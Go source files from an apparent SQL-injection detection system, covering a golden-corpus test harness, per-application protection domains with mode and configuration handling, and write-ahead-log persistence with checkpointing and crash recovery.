// parser, stack builder, hashing or detection logic that shifts one of
// these surfaces here as a readable diff, to be either fixed or
// consciously accepted with -update.
func TestGoldenCorpus(t *testing.T) {
	cases, err := filepath.Glob(filepath.Join("testdata", "corpus", "*.txt"))
	if err != nil || len(cases) == 0 {
		t.Fatalf("no corpus cases found: %v", err)
	}
	sort.Strings(cases)
	for _, path := range cases {
		name := strings.TrimSuffix(filepath.Base(path), ".txt")
		t.Run(name, func(t *testing.T) {
			train, query := readCorpusCase(t, path)
			got := renderCorpusCase(t, train, query)
			goldenPath := strings.TrimSuffix(path, ".txt") + ".golden"
			if *update {
				if err := os.WriteFile(goldenPath, []byte(got), 0o644); err != nil {
					t.Fatalf("write golden: %v", err)
				}
				return
			}
			want, err := os.ReadFile(goldenPath)
			if err != nil {
				t.Fatalf("missing golden file (run with -update to create): %v", err)
			}
			if got != string(want) {
				t.Errorf("golden mismatch for %s\n--- want\n%s--- got\n%s", name, want, got)
			}
		})
	}
}

// readCorpusCase parses a corpus file: '#' comment lines, zero or more
// `train:` queries, exactly one `query:` line.
func readCorpusCase(t *testing.T, path string) (train []string, query string) {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	for ln, line := range strings.Split(string(data), "\n") {
		line = strings.TrimSpace(line)
		switch {
		case line == "" || strings.HasPrefix(line, "#"):
		case strings.HasPrefix(line, "train:"):
			train = append(train, strings.TrimSpace(strings.TrimPrefix(line, "train:")))
		case strings.HasPrefix(line, "query:"):
			if query != "" {
				t.Fatalf("%s:%d: second query: line", path, ln+1)
			}
			query = strings.TrimSpace(strings.TrimPrefix(line, "query:"))
		default:
			t.Fatalf("%s:%d: unrecognized line %q", path, ln+1, line)
		}
	}
	if query == "" {
		t.Fatalf("%s: no query: line", path)
	}
	return train, query
}

// renderCorpusCase runs the case and renders the golden text.
func renderCorpusCase(t *testing.T, train []string, query string) string {
	t.Helper()
	hub := obs.NewHub(16)
	sep := New(Config{Mode: ModeTraining}, WithObserver(hub),
		WithLogger(NewLogger(WithCheckedSampling(0))))
	for _, q := range train {
		if err := sep.BeforeExecute(hookCtxFor(t, q)); err != nil {
			t.Fatalf("training %q: %v", q, err)
		}
	}
	sep.SetConfig(DefaultConfig())

	hctx := hookCtxFor(t, query)
	verdictErr := sep.BeforeExecute(hctx)

	var b strings.Builder
	fmt.Fprintf(&b, "query    %s\n", hctx.Decoded)
	fmt.Fprintf(&b, "skeleton %s\n", qstruct.Skeleton(hctx.Stmt))
	fmt.Fprintf(&b, "id       %016x\n", qstruct.SkeletonHash(hctx.Stmt))
	b.WriteString("stack\n")
	for _, line := range strings.Split(qstruct.BuildStack(hctx.Stmt).String(), "\n") {
		fmt.Fprintf(&b, "  | %s |\n", line)
	}
	if verdictErr == nil {
		b.WriteString("verdict  admitted\n")
		return b.String()
	}
	b.WriteString("verdict  blocked\n")
	attacks := hub.Events.Recent(obs.KindAttack, 0)
	if len(attacks) == 0 {
		t.Fatalf("query blocked (%v) but no attack event published", verdictErr)
	}
	a := attacks[len(attacks)-1]
	fmt.Fprintf(&b, "detector %s\n", a.Detector)
	fmt.Fprintf(&b, "distance %d\n", a.Distance)
	fmt.Fprintf(&b, "detail   %s\n", a.Detail)
	return b.String()
}
