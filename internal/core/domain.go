package core

import (
	"fmt"
	"maps"
	"sort"
	"strings"
	"sync/atomic"

	"github.com/septic-db/septic/internal/engine"
	"github.com/septic-db/septic/internal/obs"
	"github.com/septic-db/septic/internal/overload"
)

// DefaultDomain names the protection domain queries fall into when no
// registered domain claims them: the single-tenant behaviour every
// deployment starts with.
const DefaultDomain = "default"

// Domain is one protection domain: the unit of multi-tenant isolation.
// The paper's deployment runs ONE SEPTIC inside one DBMS protecting
// four applications at once, each with its own learned query models and
// its own training→detection→prevention lifecycle; a Domain is exactly
// that per-application scope. It owns
//
//   - a private model Store (training one application never widens
//     another's models — the cross-app pollution that is both a
//     false-positive and a false-negative source),
//   - an independent operation Mode and detection Config (one app can
//     still be training while another already blocks),
//   - its own FailOpen policy,
//   - a private verdict-cache partition (a benign verdict for app A can
//     never be served to app B, and A's store churn never invalidates
//     B's cache), and
//   - its own Stats counters.
//
// The ID generator, detector plugin chain, logger and observability hub
// remain shared across domains: they are stateless (or append-only)
// modules, not learned knowledge.
//
// Domains are created by Septic.RegisterDomain and live for the Septic's
// lifetime. All methods are safe for concurrent use.
type Domain struct {
	name string
	sep  *Septic

	store *Store

	// cfg is the domain's configuration snapshot; see Septic.cfg for the
	// publication protocol.
	cfg atomic.Pointer[Config]

	// cfgGen counts this domain's configuration changes; stamps verdicts
	// (see Septic.cfgGen — the mechanism is per-domain so one domain's
	// mode flip never invalidates another domain's cache).
	cfgGen atomic.Uint64

	// verdicts is the domain's private verdict-cache partition.
	verdicts *verdictCache

	// cfgSink, when installed (Persistence.bind), records every
	// configuration change in the write-ahead log so a restart comes back
	// in the mode the operator left the domain in. Called after
	// publication: a config append that fails is logged and counted by
	// the persistence layer, but never blocks the mode switch itself —
	// losing a mode change to a crash is recoverable (the operator's
	// domains file still names the intended mode), whereas refusing one
	// could pin a domain in training while it is under attack.
	cfgSink func(cfg Config)

	queriesSeen    atomic.Int64
	modelsLearned  atomic.Int64
	attacksFound   atomic.Int64
	attacksBlocked atomic.Int64
	guardFaults    atomic.Int64

	// ovl is the domain's overload controls (quota, detection breaker,
	// shed accounting), shared by value with the wire server so both
	// layers count against the same object. Never nil — newDomain
	// installs inert controls, so the hot path's single atomic load
	// needs no branch.
	ovl atomic.Pointer[overload.Controls]
	// brownouts counts verdict-cache misses answered by the fail stance
	// while the detection breaker was open.
	brownouts atomic.Int64
}

// Name returns the domain's registered name ("default" for the default
// domain).
func (d *Domain) Name() string { return d.name }

// Store exposes the domain's private model store (persistence, admin
// review) — never shared with any other domain.
func (d *Domain) Store() *Store { return d.store }

// Mode returns the domain's current operation mode.
func (d *Domain) Mode() Mode { return d.cfg.Load().Mode }

// Config returns the domain's current configuration.
func (d *Domain) Config() Config { return *d.cfg.Load() }

// SetMode switches this domain's operation mode without touching any
// other domain. Other configuration fields are preserved even against a
// racing SetConfig.
func (d *Domain) SetMode(m Mode) {
	for {
		old := d.cfg.Load()
		next := *old
		next.Mode = m
		if d.cfg.CompareAndSwap(old, &next) {
			break
		}
	}
	// Bump AFTER publishing: a reader that still observes the old
	// generation computed against at-most-old configuration, and its
	// cached verdict dies with the bump.
	d.cfgGen.Add(1)
	if d.cfgSink != nil {
		d.cfgSink(d.Config())
	}
	d.sep.logger.Log(Event{Kind: EventModeChanged, Domain: d.name,
		Detail: "mode set to " + m.String()})
	d.sep.obs.Publish(obs.Event{Kind: obs.KindMode,
		Detail: "domain " + d.name + ": mode set to " + m.String()})
}

// SetConfig replaces this domain's whole configuration.
func (d *Domain) SetConfig(cfg Config) {
	d.cfg.Store(&cfg)
	d.cfgGen.Add(1)
	if d.cfgSink != nil {
		d.cfgSink(cfg)
	}
	detail := fmt.Sprintf("config set: mode=%s sqli=%t stored=%t",
		cfg.Mode, cfg.DetectSQLI, cfg.DetectStored)
	d.sep.logger.Log(Event{Kind: EventModeChanged, Domain: d.name, Detail: detail})
	d.sep.obs.Publish(obs.Event{Kind: obs.KindMode,
		Detail: "domain " + d.name + ": " + detail})
}

// replayConfig applies a recovered configuration (checkpoint or WAL
// replay): SetConfig minus the sink (the record is already durable) and
// minus the operator-facing event noise. The generation still bumps so
// no verdict cached against the pre-recovery configuration survives.
func (d *Domain) replayConfig(cfg Config) {
	d.cfg.Store(&cfg)
	d.cfgGen.Add(1)
}

// SetOverload installs the domain's overload controls (per-domain
// quota, detection breaker). nil resets to inert controls. The wire
// server resolves the same Controls per session, so quota enforcement
// there and the counters reported here are one set of numbers. A
// breaker's state transitions are logged to the event register and
// published to the observability hub.
func (d *Domain) SetOverload(c *overload.Controls) {
	if c == nil {
		c = overload.NewControls(nil, nil)
	}
	if c.Breaker != nil {
		c.Breaker.OnStateChange(func(from, to overload.State) { d.noteBreaker(from, to) })
	}
	d.ovl.Store(c)
}

// Overload returns the domain's overload controls; never nil.
func (d *Domain) Overload() *overload.Controls { return d.ovl.Load() }

// noteBreaker records one detection-breaker transition — brownout entry
// and recovery are operator-grade events, unlike the per-query brownout
// outcomes (which only count, so an open breaker under flood cannot
// flood the register too).
func (d *Domain) noteBreaker(from, to overload.State) {
	detail := fmt.Sprintf("detection breaker %s -> %s", from, to)
	d.sep.logger.Log(Event{Kind: EventOverload, Domain: d.name, Detail: detail})
	d.sep.obs.Publish(obs.Event{Kind: obs.KindOverload,
		Detail: "domain " + d.name + ": " + detail})
}

// Stats snapshots this domain's work counters. The dependent counter is
// read before its antecedent (blocked before found before seen) so the
// invariants AttacksBlocked ≤ AttacksFound ≤ QueriesSeen hold in every
// snapshot; see Septic.Stats for the full argument. The overload
// counters are independent of that chain and carry no cross-invariant.
func (d *Domain) Stats() Stats {
	blocked := d.attacksBlocked.Load()
	found := d.attacksFound.Load()
	faults := d.guardFaults.Load()
	learned := d.modelsLearned.Load()
	seen := d.queriesSeen.Load()
	ctl := d.ovl.Load()
	return Stats{
		QueriesSeen:    seen,
		ModelsLearned:  learned,
		AttacksFound:   found,
		AttacksBlocked: blocked,
		GuardFaults:    faults,
		Shed:           ctl.Sheds(),
		QuotaRejected:  ctl.QuotaRejected(),
		BreakerTrips:   ctl.BreakerTrips(),
		Cache:          d.CacheStats(),
	}
}

// CacheStats returns the domain's verdict-cache counters alone.
func (d *Domain) CacheStats() CacheStats {
	cs := d.verdicts.stats()
	cs.Brownouts = d.brownouts.Load()
	return cs
}

// validDomainName reports whether name can be registered: non-empty, not
// the reserved default, and free of the external-ID separator (':') and
// of whitespace/control bytes, so a registered name is always reachable
// through a "/* name:rest */" comment prefix and never collides with the
// malformed-comment rejection in ExternalID.
func validDomainName(name string) error {
	if name == "" {
		return fmt.Errorf("domain name must not be empty")
	}
	if name == DefaultDomain {
		return fmt.Errorf("domain name %q is reserved", DefaultDomain)
	}
	if len(name) > MaxExternalIDLen {
		return fmt.Errorf("domain name exceeds %d bytes", MaxExternalIDLen)
	}
	if i := strings.IndexFunc(name, func(r rune) bool {
		return r == ':' || r <= ' ' || r == 0x7f
	}); i >= 0 {
		return fmt.Errorf("domain name %q contains %q", name, name[i])
	}
	return nil
}

// RegisterDomain creates a new protection domain and publishes it to the
// router. Queries reach the domain through the session-declared app name
// (the wire HELLO handshake) or through the application prefix of the
// external comment identifier ("/* name:query-id */ SELECT ..."). The
// domain starts with an empty private store and the given configuration.
func (s *Septic) RegisterDomain(name string, cfg Config) (*Domain, error) {
	if err := validDomainName(name); err != nil {
		return nil, err
	}
	if cfg.Mode == ModeInvalid {
		return nil, fmt.Errorf("domain %q: configuration has no mode", name)
	}
	s.regMu.Lock()
	defer s.regMu.Unlock()
	cur := *s.domains.Load()
	if _, dup := cur[name]; dup {
		return nil, fmt.Errorf("domain %q already registered", name)
	}
	d := s.newDomain(name, cfg, NewStore())
	if s.replica.Load() {
		// Replica mode covers domains registered after attach too: the
		// new store must only ever be written by the replication applier.
		d.store.setReadOnly(true)
	}
	if s.persist != nil {
		// Durability is already attached: the new domain's mutations must
		// hit the WAL from its very first learned model. Bound before
		// publication, so no query can reach the store sink-less.
		s.persist.bind(d)
	}
	next := maps.Clone(cur)
	next[name] = d
	// Publish copy-on-write: the hot path loads the snapshot pointer once
	// and reads an immutable map — registration never blocks a query.
	s.domains.Store(&next)
	if s.obs != nil {
		s.registerDomainGauges(d)
	}
	s.logger.Log(Event{Kind: EventDomainRegistered, Domain: name,
		Detail: fmt.Sprintf("domain registered (mode=%s sqli=%t stored=%t fail-open=%t)",
			cfg.Mode, cfg.DetectSQLI, cfg.DetectStored, cfg.FailOpen)})
	s.obs.Publish(obs.Event{Kind: obs.KindMode,
		Detail: "domain " + name + " registered, mode " + cfg.Mode.String()})
	return d, nil
}

// Domain returns the registered domain called name; the default domain
// is reachable as DefaultDomain.
func (s *Septic) Domain(name string) (*Domain, bool) {
	if name == DefaultDomain {
		return s.def, true
	}
	d, ok := (*s.domains.Load())[name]
	return d, ok
}

// DefaultDomain returns the domain unclaimed queries fall into — the
// single-tenant domain every Septic starts with.
func (s *Septic) DefaultDomain() *Domain { return s.def }

// Domains lists every domain — the default first, the registered ones
// sorted by name.
func (s *Septic) Domains() []*Domain {
	m := *s.domains.Load()
	names := make([]string, 0, len(m))
	for name := range m {
		names = append(names, name)
	}
	sort.Strings(names)
	out := make([]*Domain, 0, len(m)+1)
	out = append(out, s.def)
	for _, name := range names {
		out = append(out, m[name])
	}
	return out
}

// domainFor routes one query to its protection domain. Resolution is a
// single map lookup off an atomic snapshot — no locks, no allocation:
//
//  1. A session-declared app name (ctx.App, bound by the wire HELLO
//     handshake) wins when it names a registered domain.
//  2. Otherwise the application prefix of the external comment
//     identifier ("/* app:rest */") routes, when registered.
//  3. Everything else — no declaration, unknown names, single-tenant
//     deployments — lands in the default domain, preserving the
//     pre-domain behaviour exactly.
func (s *Septic) domainFor(ctx *engine.HookContext) *Domain {
	m := *s.domains.Load()
	if len(m) == 0 {
		return s.def
	}
	if ctx.App != "" {
		if d, ok := m[ctx.App]; ok {
			return d
		}
		return s.def
	}
	if ext := ExternalID(ctx.Comments); ext != "" {
		if p := AppPrefix(ext); p != "" {
			if d, ok := m[p]; ok {
				return d
			}
		}
	}
	return s.def
}

// registerDomainGauges exports one domain's counters under
// core.domain.<name>.* so /metrics is domain-labelled. Called with
// s.regMu held (or at construction, before sharing).
func (s *Septic) registerDomainGauges(d *Domain) {
	m := s.obs.Metrics
	prefix := "core.domain." + d.name + "."
	m.GaugeFunc(prefix+"queries_seen", d.queriesSeen.Load)
	m.GaugeFunc(prefix+"models_learned", d.modelsLearned.Load)
	m.GaugeFunc(prefix+"attacks_found", d.attacksFound.Load)
	m.GaugeFunc(prefix+"attacks_blocked", d.attacksBlocked.Load)
	m.GaugeFunc(prefix+"guard_faults", d.guardFaults.Load)
	m.GaugeFunc(prefix+"shed", func() int64 { return d.ovl.Load().Sheds() })
	m.GaugeFunc(prefix+"quota_rejected", func() int64 { return d.ovl.Load().QuotaRejected() })
	m.GaugeFunc(prefix+"breaker_trips", func() int64 { return d.ovl.Load().BreakerTrips() })
	m.GaugeFunc(prefix+"brownouts", d.brownouts.Load)
	m.GaugeFunc(prefix+"store.identifiers", func() int64 { return int64(d.store.Len()) })
	m.GaugeFunc(prefix+"store.models", func() int64 { return int64(d.store.ModelCount()) })
	m.GaugeFunc(prefix+"verdict_cache.hits", func() int64 { return d.verdicts.stats().Hits })
	m.GaugeFunc(prefix+"verdict_cache.misses", func() int64 { return d.verdicts.stats().Misses })
}
