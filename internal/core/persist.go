package core

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"sync"
	"sync/atomic"
	"time"

	"github.com/septic-db/septic/internal/faultinject"
	"github.com/septic-db/septic/internal/obs"
	"github.com/septic-db/septic/internal/qstruct"
	"github.com/septic-db/septic/internal/wal"
)

// This file is the durable model store: the seam between the in-memory
// protection domains and the internal/wal write-ahead log. Before it,
// models lived only in memory between a boot-time Store.Load and a
// SIGTERM-time Store.Save — a crash, OOM-kill or power loss silently
// discarded everything learned since startup. With a Persistence
// attached:
//
//   - every Put/Delete/Approve on any domain's store partition, and
//     every SetMode/SetConfig on any domain, appends a record tagged
//     with its protection domain to one shared WAL;
//   - boot replays the last checkpoint plus the WAL tail into each
//     domain's partition, truncating a torn tail and counting what it
//     had to drop;
//   - a background checkpointer periodically compacts the log into an
//     atomic snapshot (temp file + fsync + rename + directory fsync)
//     and trims the sealed segments the snapshot made redundant.
//
// Under wal.FsyncAlways, a training update whose Put returned true has
// been fsynced and survives any crash — the invariant the crash-chaos
// suite (crash_chaos_test.go) kills the process at random points to
// verify.

// WAL record operations.
const (
	opPut     = "put"
	opDelete  = "del"
	opApprove = "approve"
	opConfig  = "cfg"
)

// walRecord is the JSON payload of one WAL frame: a single mutation,
// tagged with the protection domain it belongs to.
type walRecord struct {
	Op  string `json:"op"`
	Dom string `json:"dom"`
	ID  string `json:"id,omitempty"`
	// Model and Sum carry a put's learned model and its fingerprint;
	// replay re-verifies the fingerprint so a corrupted-but-CRC-valid
	// payload still cannot poison a store partition.
	Model *qstruct.Model   `json:"model,omitempty"`
	Sum   uint64           `json:"sum,omitempty"`
	Inc   bool             `json:"inc,omitempty"`
	Cfg   *persistedConfig `json:"cfg,omitempty"`
	// RSeq is the upstream replication sequence number this record
	// carried when a replica applied it (0 on a primary's own records).
	// It is what lets a restarted replica resume the stream from its
	// last durably applied position instead of re-requesting the full
	// snapshot: recovery tracks the maximum RSeq replayed (see
	// Persistence.ReplAppliedSeq).
	RSeq uint64 `json:"rseq,omitempty"`
}

// persistedConfig is a domain Config in persisted form.
type persistedConfig struct {
	Mode        int  `json:"mode"`
	SQLI        bool `json:"sqli"`
	Stored      bool `json:"stored"`
	Incremental bool `json:"incremental"`
	FailOpen    bool `json:"fail_open"`
}

// toPersistedConfig converts a live Config.
func toPersistedConfig(c Config) persistedConfig {
	return persistedConfig{
		Mode:        int(c.Mode),
		SQLI:        c.DetectSQLI,
		Stored:      c.DetectStored,
		Incremental: c.IncrementalLearning,
		FailOpen:    c.FailOpen,
	}
}

// toConfig converts back, reporting whether the persisted mode is a
// known one (a corrupt or future-version record must not install an
// invalid mode).
func (p persistedConfig) toConfig() (Config, bool) {
	m := Mode(p.Mode)
	if m != ModeTraining && m != ModeDetection && m != ModePrevention {
		return Config{}, false
	}
	return Config{
		Mode:                m,
		DetectSQLI:          p.SQLI,
		DetectStored:        p.Stored,
		IncrementalLearning: p.Incremental,
		FailOpen:            p.FailOpen,
	}, true
}

// checkpointVersion versions the checkpoint file layout.
const checkpointVersion = 1

// checkpointFileName is the snapshot's name inside the WAL directory.
const checkpointFileName = "checkpoint.json"

// checkpointFile is the on-disk snapshot of every domain.
type checkpointFile struct {
	Version int    `json:"version"`
	WALSeq  uint64 `json:"wal_seq"`
	// ReplSeq is the upstream replication sequence the snapshot covers —
	// nonzero only on a replica with local durability (or in a snapshot
	// a primary streams to a replica, where it doubles as the barrier).
	ReplSeq uint64 `json:"repl_seq,omitempty"`
	// Domains maps protection-domain name → its store and config.
	Domains map[string]checkpointDomain `json:"domains"`
}

// checkpointDomain is one domain's snapshot.
type checkpointDomain struct {
	Config persistedConfig         `json:"config"`
	Sets   map[string]persistedSet `json:"sets"`
}

// PersistenceOptions configures the durable model store.
type PersistenceOptions struct {
	// Dir holds the WAL segments and the checkpoint file.
	Dir string
	// Fsync is the append durability policy (default wal.FsyncAlways —
	// the policy the no-acknowledged-loss guarantee is stated under).
	Fsync wal.FsyncPolicy
	// FsyncInterval is the wal.FsyncInterval flush period.
	FsyncInterval time.Duration
	// SegmentSize is the WAL rotation threshold.
	SegmentSize int64
	// CheckpointInterval is the background compaction period; 0
	// disables the background checkpointer (Checkpoint can still be
	// called explicitly — septicd does at shutdown).
	CheckpointInterval time.Duration
	// ForceRecover lets boot proceed past mid-log WAL damage by
	// truncating it and dropping (and counting) every record beyond it.
	// Default false: attach fails with wal.ErrMidLogCorrupt so an
	// operator decides, instead of acknowledged models silently
	// vanishing.
	ForceRecover bool
}

// PersistenceStats snapshots the durability counters for introspection
// and tests; the same numbers are exported on /metrics as wal.*.
type PersistenceStats struct {
	// WAL mirrors the log's own counters.
	WAL wal.Stats
	// RecoveredRecords counts WAL records replayed at attach.
	RecoveredRecords int64
	// RecoveredSkipped counts records that could not be applied: an
	// unknown protection domain, an unknown op, a fingerprint mismatch.
	RecoveredSkipped int64
	// TornSegments and DroppedRecords surface what recovery truncated;
	// see wal.RecoveryInfo.
	TornSegments   int64
	DroppedRecords int64
	// RecoveryDuration is how long the attach replay took.
	RecoveryDuration time.Duration
	// Checkpoints counts completed snapshots; CheckpointFaults counts
	// failed or panicking attempts (contained, counted, retried next
	// interval).
	Checkpoints       int64
	CheckpointFaults  int64
	LastCheckpointSeq uint64
	// AppendErrors counts mutations whose WAL append failed.
	AppendErrors int64
}

// Persistence is the durable model store attached to one Septic: a
// shared WAL plus a checkpointer over every protection domain. Create
// it with Septic.AttachPersistence.
type Persistence struct {
	sep  *Septic
	opts PersistenceOptions
	log  *wal.Log

	// cpMu serializes checkpoints (the background ticker and explicit
	// calls).
	cpMu sync.Mutex

	recoveredRecords  atomic.Int64
	recoveredSkipped  atomic.Int64
	tornSegments      atomic.Int64
	droppedRecords    atomic.Int64
	recoveryNanos     atomic.Int64
	checkpoints       atomic.Int64
	checkpointFaults  atomic.Int64
	lastCheckpointSeq atomic.Uint64
	appendErrors      atomic.Int64
	// replSeq is the highest upstream replication sequence made locally
	// durable (checkpoint ReplSeq or a replayed record's RSeq); the
	// resume floor AttachReplicaSource seeds the applier with.
	replSeq atomic.Uint64

	stopc  chan struct{}
	cpDone chan struct{}
	closed atomic.Bool
}

// AttachPersistence opens (or creates) the durable model store in
// opts.Dir and wires it through every protection domain: the last
// checkpoint and the WAL tail are replayed into each domain's
// partition, every future mutation is appended to the WAL before it is
// acknowledged, and the background checkpointer starts. Attach AFTER
// registering domains (their partitions must exist to replay into;
// septicd does) and BEFORE serving traffic. Records for domains that no
// longer exist are counted as skipped, surfaced on /metrics, and
// dropped at the next checkpoint.
func (s *Septic) AttachPersistence(opts PersistenceOptions) (*Persistence, error) {
	if s.persist != nil {
		return nil, fmt.Errorf("persistence already attached")
	}
	if opts.Dir == "" {
		return nil, fmt.Errorf("persistence: empty directory")
	}
	p := &Persistence{sep: s, opts: opts}
	start := time.Now()
	if err := os.MkdirAll(opts.Dir, 0o755); err != nil {
		return nil, fmt.Errorf("persistence: create dir: %w", err)
	}

	// Phase 1: the checkpoint, if one exists.
	cpSeq, err := p.loadCheckpoint()
	if err != nil {
		return nil, err
	}

	// Phase 2: the WAL tail. Records at or below the checkpoint barrier
	// are already covered by the snapshot; replay is idempotent anyway
	// (fingerprint dedup), but the filter keeps boot time proportional
	// to the uncheckpointed tail.
	log, info, err := wal.Open(wal.Options{
		Dir:          opts.Dir,
		Policy:       opts.Fsync,
		Interval:     opts.FsyncInterval,
		SegmentSize:  opts.SegmentSize,
		ForceRecover: opts.ForceRecover,
	}, func(rec wal.Record) error {
		if rec.Seq <= cpSeq {
			return nil
		}
		p.applyRecord(rec.Data)
		return nil
	})
	if err != nil {
		return nil, fmt.Errorf("persistence: open wal: %w", err)
	}
	p.log = log
	p.tornSegments.Store(int64(info.TornSegments))
	p.droppedRecords.Store(int64(info.DroppedRecords))
	p.lastCheckpointSeq.Store(cpSeq)
	p.recoveryNanos.Store(int64(time.Since(start)))

	// Phase 3: install the sinks — from here on every mutation is
	// logged — and publish the persistence so later RegisterDomain
	// calls bind their new domains too.
	for _, d := range s.Domains() {
		p.bind(d)
	}
	s.persist = p

	if s.obs != nil {
		p.registerGauges(s.obs.Metrics)
		detail := fmt.Sprintf("durability attached: %d record(s) replayed, %d skipped",
			p.recoveredRecords.Load(), p.recoveredSkipped.Load())
		if info.Truncated {
			detail += fmt.Sprintf(" (torn tail truncated: %d segment(s), %d record(s) dropped)",
				info.TornSegments, info.DroppedRecords)
		}
		s.obs.Publish(obs.Event{Kind: obs.KindWAL, Detail: detail})
	}

	if opts.CheckpointInterval > 0 {
		p.stopc = make(chan struct{})
		p.cpDone = make(chan struct{})
		go p.runCheckpointer()
	}
	return p, nil
}

// Persistence returns the attached durable store, if any.
func (s *Septic) Persistence() *Persistence { return s.persist }

// loadCheckpoint restores the snapshot into the domains and returns its
// WAL sequence barrier (0 when no checkpoint exists).
func (p *Persistence) loadCheckpoint() (uint64, error) {
	path := filepath.Join(p.opts.Dir, checkpointFileName)
	data, err := os.ReadFile(path)
	if os.IsNotExist(err) {
		return 0, nil
	}
	if err != nil {
		return 0, fmt.Errorf("persistence: read checkpoint: %w", err)
	}
	var cp checkpointFile
	if err := json.Unmarshal(data, &cp); err != nil {
		return 0, fmt.Errorf("persistence: decode checkpoint: %w", err)
	}
	if cp.Version != checkpointVersion {
		return 0, fmt.Errorf("persistence: checkpoint version %d unsupported (want %d)",
			cp.Version, checkpointVersion)
	}
	p.replSeq.Store(cp.ReplSeq)
	for name, dom := range cp.Domains {
		d, ok := p.sep.Domain(name)
		if !ok {
			p.recoveredSkipped.Add(1)
			continue
		}
		if err := verifySets(dom.Sets); err != nil {
			return 0, fmt.Errorf("persistence: checkpoint domain %q: %w", name, err)
		}
		d.store.restoreSets(dom.Sets)
		if cfg, ok := dom.Config.toConfig(); ok {
			d.replayConfig(cfg)
		}
	}
	return cp.WALSeq, nil
}

// applyRecord replays one WAL payload into its domain. Unknown domains,
// unknown ops and fingerprint mismatches are counted as skipped, never
// fatal: recovery must converge on whatever subset is applicable.
func (p *Persistence) applyRecord(data []byte) {
	var rec walRecord
	if err := json.Unmarshal(data, &rec); err != nil {
		p.recoveredSkipped.Add(1)
		return
	}
	if rec.RSeq > p.replSeq.Load() {
		// Replay is single-threaded; the load-then-store is safe. Even a
		// record skipped below advances the resume floor — it was applied
		// (or deliberately skipped) before the restart too.
		p.replSeq.Store(rec.RSeq)
	}
	d, ok := p.sep.Domain(rec.Dom)
	if !ok {
		p.recoveredSkipped.Add(1)
		return
	}
	switch rec.Op {
	case opPut:
		if rec.Model == nil || rec.Model.Fingerprint() != rec.Sum {
			p.recoveredSkipped.Add(1)
			return
		}
		d.store.replayPut(rec.ID, *rec.Model, rec.Inc)
	case opDelete:
		d.store.replayDelete(rec.ID)
	case opApprove:
		d.store.replayApprove(rec.ID)
	case opConfig:
		cfg, ok := Config{}, false
		if rec.Cfg != nil {
			cfg, ok = rec.Cfg.toConfig()
		}
		if !ok {
			p.recoveredSkipped.Add(1)
			return
		}
		d.replayConfig(cfg)
	default:
		p.recoveredSkipped.Add(1)
		return
	}
	p.recoveredRecords.Add(1)
}

// bind installs the durability sinks on one domain. Called at attach
// for existing domains and from RegisterDomain afterwards.
func (p *Persistence) bind(d *Domain) {
	d.store.setSink(func(rec *walRecord) error {
		return p.append(d.name, rec)
	})
	d.cfgSink = func(cfg Config) {
		pc := toPersistedConfig(cfg)
		_ = p.append(d.name, &walRecord{Op: opConfig, Cfg: &pc})
	}
}

// append tags, encodes and logs one mutation record. The error path is
// counted, logged and surfaced on /metrics — a durability failure must
// be loud — and returned so Put can refuse the unacknowledgeable
// mutation.
func (p *Persistence) append(domain string, rec *walRecord) error {
	rec.Dom = domain
	data, err := json.Marshal(rec)
	if err == nil {
		_, err = p.log.Append(data)
	}
	if err != nil {
		p.appendErrors.Add(1)
		p.sep.logger.Log(Event{Kind: EventDurability, Domain: domain,
			QueryID: rec.ID,
			Detail:  fmt.Sprintf("wal append failed (%s): %v", rec.Op, err)})
		if p.sep.obs != nil {
			p.sep.obs.Publish(obs.Event{Kind: obs.KindWAL, QueryID: rec.ID,
				Detail: fmt.Sprintf("wal append failed (%s, domain %s): %v", rec.Op, domain, err)})
		}
		return err
	}
	return nil
}

// Checkpoint compacts the log: snapshot every domain, publish the
// snapshot atomically, trim the sealed WAL segments it covers. The
// sequence barrier is read BEFORE the stores are snapshotted; because
// mutations append (under the shard lock) before they publish, and the
// snapshot acquires every shard lock, every record at or below the
// barrier is in the snapshot — so trimming up to the barrier can never
// drop an uncheckpointed record. Records landing during the snapshot
// may be included too; replaying them over the snapshot at boot is
// idempotent.
func (p *Persistence) Checkpoint() error {
	p.cpMu.Lock()
	defer p.cpMu.Unlock()
	if p.closed.Load() {
		return fmt.Errorf("persistence closed")
	}
	faultinject.Hit(faultinject.SiteCheckpoint)
	if ierr := faultinject.HitErr(faultinject.SiteCheckpoint); ierr != nil {
		p.checkpointFaults.Add(1)
		return ierr
	}
	seq := p.log.LastSeq()
	cp := checkpointFile{
		Version: checkpointVersion,
		WALSeq:  seq,
		ReplSeq: p.replSeq.Load(),
		Domains: make(map[string]checkpointDomain),
	}
	for _, d := range p.sep.Domains() {
		cp.Domains[d.name] = checkpointDomain{
			Config: toPersistedConfig(d.Config()),
			Sets:   d.store.snapshotSets(),
		}
	}
	data, err := json.Marshal(&cp)
	if err != nil {
		p.checkpointFaults.Add(1)
		return fmt.Errorf("persistence: encode checkpoint: %w", err)
	}
	if err := wal.WriteFileAtomic(filepath.Join(p.opts.Dir, checkpointFileName), data, 0o644); err != nil {
		p.checkpointFaults.Add(1)
		return fmt.Errorf("persistence: write checkpoint: %w", err)
	}
	p.checkpoints.Add(1)
	p.lastCheckpointSeq.Store(seq)
	if _, err := p.log.TrimTo(seq); err != nil {
		// The snapshot is durable; a failed trim only leaves redundant
		// segments for the next checkpoint to retry.
		p.checkpointFaults.Add(1)
		return fmt.Errorf("persistence: trim wal: %w", err)
	}
	if p.sep.obs != nil {
		p.sep.obs.Publish(obs.Event{Kind: obs.KindWAL,
			Detail: fmt.Sprintf("checkpoint at wal seq %d", seq)})
	}
	return nil
}

// runCheckpointer is the background compaction loop. Each attempt is
// contained: a failing or even panicking checkpoint (a full disk, an
// injected crash) is counted and retried next interval — it must never
// take down the serving process, and must never corrupt the previous
// snapshot (WriteFileAtomic guarantees that half).
func (p *Persistence) runCheckpointer() {
	defer close(p.cpDone)
	t := time.NewTicker(p.opts.CheckpointInterval)
	defer t.Stop()
	for {
		select {
		case <-p.stopc:
			return
		case <-t.C:
			p.safeCheckpoint()
		}
	}
}

// safeCheckpoint runs one contained checkpoint attempt.
func (p *Persistence) safeCheckpoint() {
	defer func() {
		if r := recover(); r != nil {
			p.checkpointFaults.Add(1)
			p.sep.logger.Log(Event{Kind: EventDurability,
				Detail: fmt.Sprintf("checkpoint panic contained: %v", r)})
		}
	}()
	if err := p.Checkpoint(); err != nil {
		p.sep.logger.Log(Event{Kind: EventDurability,
			Detail: fmt.Sprintf("checkpoint failed: %v", err)})
	}
}

